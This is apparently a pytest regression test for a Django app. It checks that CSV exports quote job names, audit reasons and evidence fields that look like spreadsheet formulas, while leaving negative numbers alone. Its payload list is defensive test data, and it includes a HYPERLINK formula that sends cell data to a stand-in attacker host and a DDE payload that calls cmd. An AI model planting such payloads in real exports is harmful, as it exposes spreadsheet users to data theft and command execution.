"""CSV formula injection: a job named `=HYPERLINK(...)` (job names come from users) went raw into finance's
CSV, where a spreadsheet runs it. Every CSV the app serves prefixes a text cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return with a single quote (OWASP); numbers, -1.5 included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from apps.jobs.models import Job
from apps.pipeline import decisions
from apps.waste.models import Flag
from tests.api.world import World, world_build

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"pay")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.fixture
def world() -> World:
    return world_build()


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def _finance(world: World) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {world.finance_key}")
    return client


def _name_jobs(world: World, names: list[str]) -> None:
    job = world.job_a
    for n, name in enumerate(names):
        if n == 0:
            Job.objects.filter(pk=job.pk).update(name=name)
        else:
            job.pk, job.job_key, job.name = None, f"slurm/hostile-{n}", name
            job.save()


@pytest.mark.parametrize("query", [{}, {"page_size": 100}], ids=["streamed", "paged"])
def test_job_names_that_are_formulas_are_quoted_in_the_jobs_csv(world: World, query: dict) -> None:
    # given jobs whose names are formulas, and one named like a negative number
    _name_jobs(world, [*HOSTILE, "-1.5"])
    # when finance exports the jobs
    response = _finance(world).get("/api/jobs/", {"format": "csv", **query})
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    names = {r["name"] for r in _rows(body)}
    # then every formula is quoted, and the number is left a number
    assert {"'" + h for h in HOSTILE} <= names, names
    assert "-1.5" in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names - {"-1.5"})


def test_audit_reasons_are_quoted_and_numbers_are_left_alone_in_every_csv(world: World) -> None:
    # given an admin's decision whose reason is a formula, and a finding with negative evidence
    decisions.job_exclude(actor=world.users["admin"], job=world.job_b, exclude=True, reason=HOSTILE[0])
    Flag.objects.filter(pk=world.flag_b.pk).update(evidence={"kwh": -1.5, "cost": "-0.40", "note": "=1+1"})
    client = _finance(world)
    # when finance exports the audit log, the findings and a rollup
    audit = _rows(client.get("/api/audit-log/", {"format": "csv"}).content)
    flags = _rows(client.get("/api/flags/", {"format": "csv"}).content)
    rollup = client.get(
        f"/api/teams/{world.team_b.pk}/rollup/", {"format": "csv", "start": "2026-11-02", "end": "2026-11-03"}
    )
    # then
    assert [r["reason"] for r in audit] == ["'" + HOSTILE[0]]
    flag_b = next(r for r in flags if r["id"] == str(world.flag_b.pk))
    assert (flag_b["evidence.kwh"], flag_b["evidence.cost"], flag_b["evidence.note"]) == ("-1.5", "-0.40", "'=1+1")
    assert rollup.status_code == 200
